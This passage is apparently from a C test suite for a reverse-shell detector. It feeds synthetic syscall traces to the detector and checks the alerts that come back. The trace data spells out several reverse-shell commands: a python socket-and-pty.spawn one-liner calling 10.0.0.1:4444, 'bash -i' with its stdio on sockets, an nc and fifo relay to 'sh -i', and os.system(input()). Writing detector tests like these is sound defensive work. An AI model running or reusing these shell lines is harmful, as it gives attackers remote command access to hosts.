		"execve pid=830 ppid=1 t=2000 comm=implant exe=/tmp/.x/implant argv=implant fd0=sock:inet fd1=sock:inet fd2=tty peer0=203.0.113.7:8443 local0=10.0.0.2:41000 peer1=203.0.113.7:8443 local1=10.0.0.2:41000 => 0\n";
	struct judge *j = fresh(false);
	struct judge_stats st;

	feed(j, implant);
	CHECKF(ngot == 0, "%u alerts during the hold", ngot);
	judge_tick(j, 1000000000ull);
	CHECKF(ngot == 1 && got[0].severity == SEV_MEDIUM && got[0].direction == DIR_OUTBOUND,
	       "%u alerts", ngot);
	judge_free(j);
	j = fresh_with(false, SEV_HIGH, NULL, false);
	feed(j, implant);
	judge_finish(j);
	judge_stats(j, &st);
	CHECK(ngot == 0 && st.by_severity[SEV_MEDIUM] == 1 && st.below_min == 1);
	judge_free(j);
}

/* An exception suppresses what it matches, counted; shown marked with --show-suppressed; errors
 * name file:line. */
static void test_exceptions(void)
{
	static const char *const shell =
		"connect pid=840 ppid=1 uid=0 t=1 fd=3 family=inet addr=10.20.30.40 port=9001 => 0\n"
		"execve pid=840 ppid=1 uid=0 t=2 comm=bash exe=/bin/bash argv=\"bash -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.20.30.40:9001 local0=10.0.0.2:41001 peer1=10.20.30.40:9001 local1=10.0.0.2:41001 => 0\n";
	char path[] = "/tmp/sw-exc-XXXXXX", why[256];
	int fd = mkstemp(path);
	FILE *f = fdopen(fd, "w");
	struct policy *pol;
	struct judge *j;
	struct judge_stats st;

	fprintf(f, "# site policy\nserver /opt/remote/bin/agentd\n"
		   "allow interpreter=bash remote=10.20.0.0/16 port=9000-9100 user=0\n");
	fclose(f);
	pol = policy_load(path, why, sizeof(why));
	CHECKF(pol != NULL, "%s", why);
	j = fresh_with(false, SEV_MEDIUM, pol, false);
	feed(j, shell);
	judge_stats(j, &st);
	CHECKF(ngot == 0 && st.suppressed == 1, "%u alerts", ngot);
	judge_free(j);
	j = fresh_with(false, SEV_MEDIUM, pol, true);
	feed(j, shell);
	CHECKF(ngot == 1 && got[0].suppressed_by && strstr(got[0].suppressed_by, ":3"),
	       "%u alerts, by %s", ngot, ngot && got[0].suppressed_by ? got[0].suppressed_by : "-");
	judge_free(j);
	CHECK(policy_sanctioned(pol, "/opt/remote/bin/agentd") && policy_sanctioned(pol, "/usr/sbin/sshd"));
	policy_free(pol);
	f = fopen(path, "w");
	fprintf(f, "allow exe=/x\nallow port=99999\n");
	fclose(f);
	CHECK(!policy_load(path, why, sizeof(why)) && strstr(why, ":2: port="));
	f = fopen(path, "w");
	fprintf(f, "deny exe=/x\n");
	fclose(f);
	CHECK(!policy_load(path, why, sizeof(why)) && strstr(why, ":1: expected"));
	f = fopen(path, "w");           /* bounded: a runaway file is refused at its first line over */
	for (int i = 0; i < 10001; i++)
		fprintf(f, "allow exe=/usr/bin/x%d\n", i);
	fclose(f);
	CHECKF(!policy_load(path, why, sizeof(why)) && strstr(why, ":10001: more than 10000"), "%s",
	       why);
	f = fopen(path, "w");
	fwrite("allow exe=/a\0b\n", 1, 16, f);
	fclose(f);
	CHECKF(!policy_load(path, why, sizeof(why)) && strstr(why, ":1: NUL byte"), "%s", why);
	unlink(path);
}

/* A loop that runs what it receives (python's popen, gawk's coprocess): the command came off the
 * wire; one alert for the loop, its next commands merged; a server running a fixed command per
 * request is not one. */
static void test_command_from_network(void)
{
	struct judge *j = fresh(true);

	feed(j, "execve pid=900 ppid=1 t=1 comm=python3 exe=/usr/bin/python3 argv=\"python3 loop.py\" fd0=tty fd1=tty fd2=tty => 0\n"
		"connect pid=900 ppid=1 t=2 fd=3 family=inet addr=203.0.113.9 port=8443 => 0\n"
		"fork pid=900 ppid=1 t=3 child=901\n"
		"execve pid=901 ppid=900 t=4 comm=sh exe=/bin/sh argv=\"/bin/sh -c id\" cmd_from_net=parent fd0=other fd1=pipe fd2=pipe pipe1=13:70 pipe2=13:71 => 0\n"
		"fork pid=900 ppid=1 t=5 child=902\n"
		"execve pid=902 ppid=900 t=6 comm=sh exe=/bin/sh argv=\"/bin/sh -c uname -a\" cmd_from_net=parent fd0=other fd1=pipe fd2=pipe pipe1=13:72 pipe2=13:73 => 0\n");
	CHECKF(ngot == 1 && got[0].pid == 901 && got[0].severity == SEV_HIGH &&
	       (got[0].signals & SIG_CMD_FROM_NET) && got[0].has_peer && got[0].peer.pport == 8443 &&
	       !strcmp(alert_name(&got[0]), "command-from-network"), "%u alerts", ngot);
	feed(j, "execve pid=910 ppid=1 t=7 comm=node exe=/usr/bin/node argv=\"node server.js\" fd0=tty fd1=tty fd2=tty => 0\n"
		"accept4 pid=910 ppid=1 t=8 fd=20 local=127.0.0.1:3000 family=inet addr=127.0.0.1 port=50003 => 21\n"
		"fork pid=910 ppid=1 t=9 child=911\n"
		"execve pid=911 ppid=910 t=10 comm=sh exe=/bin/sh argv=\"/bin/sh -c date\" fd0=pipe fd1=pipe fd2=pipe => 0\n");
	CHECKF(ngot == 1, "%u alerts", ngot);
	judge_free(j);
}

/* The creator of a shell's pipes holds them, whatever its fds: a grandparent that connected and
 * made the pipes is the relay, though the parent in between holds nothing. */
static void test_pipe_owner_relay(void)
{
	struct judge *j = fresh(false);

	feed(j, "execve pid=920 ppid=1 t=1 comm=python3 exe=/usr/bin/python3 argv=\"python3 x.py\" fd0=tty fd1=tty fd2=tty => 0\n"
		"connect pid=920 ppid=1 t=2 fd=3 family=inet addr=198.51.100.4 port=4444 => 0\n"
		"fork pid=920 ppid=1 t=3 child=921\n"
		"execve pid=921 ppid=920 t=4 comm=sh exe=/bin/sh argv=\"sh -c sh -i\" fd0=pipe fd1=pipe fd2=pipe pipe0=13:80 pipe1=13:81 pipe2=13:81 owner0=920 owner1=920 owner2=920 => 0\n"
		"fork pid=921 ppid=920 t=5 child=922\n"
		"execve pid=922 ppid=921 t=6 comm=sh exe=/bin/sh argv=\"sh -i\" fd0=pipe fd1=pipe fd2=pipe pipe0=13:80 pipe1=13:81 pipe2=13:81 owner0=920 owner1=920 owner2=920 => 0\n");
	CHECKF(ngot == 1 && got[0].pid == 922 && got[0].severity == SEV_HIGH &&
	       (got[0].signals & SIG_PIPE_RELAY) && got[0].peer.pport == 4444, "%u alerts", ngot);
	judge_free(j);
}

/* node's spawn('/bin/sh') runs the shell on socketpairs first and connects after: the connection
 * of the pairs' creator completes the relay then. A CGI script on the pipes of a server holding
 * a connection reads data, not commands: nothing. */
static void test_owner_connects_later(void)
{
	struct judge *j = fresh(false);

	feed(j, "execve pid=930 ppid=1 t=1 comm=node exe=/usr/bin/node argv=\"node x.js\" fd0=tty fd1=tty fd2=tty => 0\n"
		"fork pid=930 ppid=1 t=2 child=931\n"
		"execve pid=931 ppid=930 t=3 comm=sh exe=/bin/sh argv=/bin/sh fd0=sock:unix fd1=sock:unix fd2=sock:unix owner0=930 owner1=930 owner2=930 => 0\n");
	CHECKF(ngot == 0, "%u alerts before the connection", ngot);
	feed(j, "connect pid=930 ppid=1 t=4 fd=20 family=inet addr=198.51.100.4 port=4444 => -115\n");
	judge_finish(j);
	CHECKF(ngot == 1 && got[0].pid == 931 && got[0].severity == SEV_HIGH &&
	       (got[0].signals & SIG_PIPE_RELAY) && got[0].peer.pport == 4444, "%u alerts", ngot);
	judge_free(j);

	j = fresh(false);
	feed(j, "execve pid=940 ppid=1 t=1 comm=httpd exe=/usr/sbin/httpd argv=httpd fd0=tty fd1=tty fd2=tty => 0\n"
		"accept4 pid=940 ppid=1 t=2 fd=3 family=inet addr=198.51.100.9 port=50000 => 7\n"
		"fork pid=940 ppid=1 t=3 child=941\n"
		"execve pid=941 ppid=940 t=4 comm=sh exe=/bin/sh argv=\"/bin/sh /usr/lib/cgi-bin/a.sh\" fd0=pipe fd1=pipe fd2=pipe pipe0=13:90 pipe1=13:91 pipe2=13:91 owner0=940 owner1=940 owner2=940 => 0\n"
		"accept4 pid=940 ppid=1 t=5 fd=3 family=inet addr=198.51.100.9 port=50001 => 8\n");
	judge_finish(j);
	CHECKF(ngot == 0 || got[0].severity < SEV_HIGH, "%u alerts", ngot);
	judge_free(j);
}

/* busybox's applets re-exec /proc/self/exe with the applet's name as argv[0] (a container's
 * busybox is not the host's file, so no inode says what it is): `sh -i` through a fifo and nc is
 * still a shell. */
static void test_exec_through_proc_self_exe(void)
{
	struct judge *j = fresh(false);

	feed(j, "execve pid=950 ppid=1 t=1 comm=sh exe=/bin/sh argv=\"sh -c x\" fd0=other fd1=pipe fd2=pipe pipe1=15:1 pipe2=15:2 => 0\n"
		"execve pid=952 ppid=950 t=3 comm=exe exe=/proc/self/exe argv=\"nc 10.88.0.1 5000\" fd0=pipe fd1=fifo fd2=pipe pipe0=15:10 pipe1=52:99 pipe2=15:2 => 0\n"
		"execve pid=951 ppid=950 t=4 comm=exe exe=/proc/self/exe argv=\"sh -i\" fd0=fifo fd1=pipe fd2=pipe pipe0=52:99 pipe1=15:10 pipe2=15:10 => 0\n"
		"connect pid=952 ppid=950 t=5 fd=3 family=inet addr=10.88.0.1 port=5000 => 0\n");
	judge_finish(j);
	CHECKF(ngot == 1 && got[0].pid == 951 && got[0].severity == SEV_HIGH &&
	       !strcmp(got[0].interp, "sh"), "%u alerts, interp '%s'", ngot, ngot ? got[0].interp : "");
	judge_free(j);
}

/* run --baseline: an exec unlike what its interpreter runs on this host is an anomaly: low alone
 * (held like a score-only alert), medium with a network fact of the exec, never high on its own;
 * a line like the ones learnt is none. The baseline is learnt here from a host's python lines. */
static struct baseline *python_baseline(void)
{
	static const char *const forms[][2] = {   /* prefix, a number, suffix */
		{ "python3 -c 'import sys; print(sys.argv[", "])'" },
		{ "python3 /usr/bin/app-check --id ", "" },
		{ "python3 -c 'import json,sys; print(json.load(sys.stdin)[", "])'" },
		{ "python3 -m pip list --path /opt/v", "" },
	};
	struct baseline_opts bo = baseline_opts_default();
	struct baseline_learner *l = baseline_learner_new(&bo, NULL, 0);
	char line[128];
	struct bl_cmd c;

	for (unsigned i = 0; l && i < 200; i++) {
		snprintf(line, sizeof(line), "%s%u%s", forms[i % 4][0], i % 10, forms[i % 4][1]);
		bl_cmd_from_line(&c, line, strlen(line));
		baseline_learner_add(l, &c);
	}
	return l ? baseline_learner_finish(l) : NULL;
}

static void test_anomaly(void)
{
	static struct ruleset rs;
	struct baseline *b = python_baseline();
	struct judge_opts o = judge_opts_default();
	char err[256];
	struct judge *j;

	CHECK(b != NULL && (rs.nrules || !rules_load_default(&rs, err, sizeof(err))));
	o.rules = &rs, o.on_alert = collect, o.min_severity = SEV_LOW, o.baseline = b;
	ngot = 0;
	j = judge_new(&o);
	feed(j, "execve pid=600 ppid=1 t=1000 comm=python3 exe=/usr/bin/python3 argv=\"python3 -c import sys; print(sys.argv[3])\" fd0=tty fd1=tty fd2=tty => 0\n"
		"execve pid=601 ppid=1 t=2000 comm=python3 exe=/usr/bin/python3 argv=\"python3 -c import socket,os,pty;s=socket.socket();s.connect((\\\"10.0.0.1\\\",4444));pty.spawn(\\\"/bin/sh\\\")\" fd0=tty fd1=tty fd2=tty => 0\n");
	CHECKF(ngot == 0, "%u alerts before the hold ran out", ngot);
	judge_tick(j, 1000000000ull);
	CHECKF(ngot == 1 && got[0].pid == 601 && got[0].severity == SEV_LOW &&
	       got[0].signals == (SIG_INTERPRETER | SIG_ANOMALY), "%u alerts, signals %x", ngot,
	       ngot ? got[0].signals : 0);
	/* an accepted connection on the stdio of python running its own code: what servers do, no
	 * alert; with an anomalous command line, one level more: medium, not high */
	feed(j, "execve pid=602 ppid=1 t=2000000000 comm=python3 exe=/usr/bin/python3 argv=\"python3 -m pip list --path /opt/v3\" fd0=sock:inet fd1=sock:inet fd2=tty peer0=10.1.2.3:50000 local0=10.0.0.2:8080 peer1=10.1.2.3:50000 local1=10.0.0.2:8080 => 0\n"
		"execve pid=603 ppid=1 t=2000001000 comm=python3 exe=/usr/bin/python3 argv=\"python3 -c import os; os.system(input())\" fd0=sock:inet fd1=sock:inet fd2=tty peer0=10.1.2.3:50001 local0=10.0.0.2:8080 peer1=10.1.2.3:50001 local1=10.0.0.2:8080 => 0\n");
	judge_tick(j, 4000000000ull);
	CHECKF(ngot == 2 && got[1].pid == 603 && got[1].severity == SEV_MEDIUM &&
	       (got[1].signals & (SIG_STDIO_SOCKET | SIG_ANOMALY)) == (SIG_STDIO_SOCKET | SIG_ANOMALY),
	       "%u alerts", ngot);
	judge_free(j);
	baseline_free(b);
}

/* A live source may hand an exec on before the fork that made the process (execs have a ring of
 * their own): the fork must not overwrite what the exec said. */
static void test_fork_after_exec(void)
{
	struct judge *j = fresh(false);

	feed(j, "execve pid=931 ppid=930 t=20 comm=sh exe=/bin/sh argv=\"sh -i\" fd0=sock:inet fd1=sock:inet peer0=192.0.2.1:443 local0=10.0.0.2:40000 peer1=192.0.2.1:443 local1=10.0.0.2:40000 => 0\n"
		"fork pid=930 ppid=1 t=10 child=931\n"
		"fork pid=931 ppid=930 t=30 child=932\n"
		"execve pid=932 ppid=931 t=40 comm=id exe=/usr/bin/id argv=id fd0=sock:inet fd1=sock:inet peer0=192.0.2.1:443 local0=10.0.0.2:40000 peer1=192.0.2.1:443 local1=10.0.0.2:40000 => 0\n");
	CHECKF(ngot == 1 && got[0].pid == 931, "%u alerts", ngot);   /* id merged into the shell */
	judge_free(j);
	/* the child's exec before its own fork: still the shell's tree, one alert */
	j = fresh(false);
	feed(j, "fork pid=930 ppid=1 t=10 child=931\n"
		"execve pid=931 ppid=930 t=20 comm=sh exe=/bin/sh argv=\"sh -i\" fd0=sock:inet fd1=sock:inet peer0=192.0.2.1:443 local0=10.0.0.2:40000 peer1=192.0.2.1:443 local1=10.0.0.2:40000 => 0\n"
		"execve pid=932 ppid=931 t=40 comm=id exe=/usr/bin/id argv=id fd0=sock:inet fd1=sock:inet peer0=192.0.2.1:443 local0=10.0.0.2:40000 peer1=192.0.2.1:443 local1=10.0.0.2:40000 => 0\n"
		"fork pid=931 ppid=930 t=30 child=932\n");
	judge_finish(j);
	CHECKF(ngot == 1 && got[0].pid == 931, "%u alerts", ngot);
	judge_free(j);
}

/* Documentation and table agree: docs/run.md has every signal row the table prints. */
static void test_signal_docs(void)
{
	char *buf = NULL, *doc = NULL, line[4096];
	size_t len = 0, dlen = 0;
	FILE *m = open_memstream(&buf, &len), *f = fopen("docs/run.md", "r");

	CHECK(m && f);
	if (!m || !f)
		return;
	signals_doc(m);
	fclose(m);
	{
		FILE *d = open_memstream(&doc, &dlen);
		size_t n;

		while ((n = fread(line, 1, sizeof(line), f)) > 0)
			fwrite(line, 1, n, d);
		fclose(d);
	}
	fclose(f);
	for (char *save = NULL, *l = strtok_r(buf, "\n", &save); l; l = strtok_r(NULL, "\n", &save))
		CHECKF(strstr(doc, l) != NULL, "docs/run.md lacks: %s", l);
	free(buf);
	free(doc);
}

int main(void)
{
	RUN(test_reverse_shell_child);
	RUN(test_entity_id);
	RUN(test_working_directory);
	RUN(test_argument_boundaries);
	RUN(test_pty_shell);
	RUN(test_login_is_quiet);
	RUN(test_score_only_is_held);
	RUN(test_confirmed_absorbs_held);
	RUN(test_exit_frees);
	RUN(test_proc_scan);
	RUN(test_pipe_relay);
	RUN(test_stdio_from_dups);
	RUN(test_sshd_is_sanctioned);
	RUN(test_socat_bind_shell);
	RUN(test_services_are_quiet);
	RUN(test_identity);
	RUN(test_medium);
	RUN(test_exceptions);
	RUN(test_command_from_network);
	RUN(test_pipe_owner_relay);
	RUN(test_fork_after_exec);
	RUN(test_owner_connects_later);
	RUN(test_exec_through_proc_self_exe);
	RUN(test_anomaly);
	RUN(test_signal_docs);
	return tap_done();
}
